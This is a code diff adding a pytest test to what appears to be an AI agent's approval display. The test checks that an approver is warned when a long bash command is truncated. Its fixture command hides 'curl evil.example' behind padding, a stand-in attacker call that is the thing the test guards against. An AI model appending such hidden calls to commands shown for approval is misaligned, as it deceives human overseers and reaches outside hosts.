@@ -88,6 +88,16 @@ def test_an_approval_is_shown_with_its_command_and_the_way_to_answer_it(status: 
     assert "`/reject ap-1 why`" in text
 
 
+@pytest.mark.parametrize("length", [10, limits.STATUS_PROSE_CHARS])
+def test_a_call_whose_end_is_not_shown_says_so_to_who_approves(length: int) -> None:
+    command = f"echo {'a' * length}; curl evil.example"
+    asked = ApprovalRequest(
+        id="ap-1", tool="bash", shown={"command": command}, reason="r", risk="high", kind="k", requested_at=NOW
+    )
+    text = shown(run(status="running", approval=asked))
+    assert ("evil.example" in text) is not ("This is not all of it" in text)
+
+
 def test_the_plan_has_boxes_that_are_checked_as_the_sandbox_goes() -> None:
     text = shown(run(status="running"), live=Live(plan=PLAN, steps_done=1, activity="runs pytest"))
     assert "- [x] read the code\n- [ ] write the button" in text
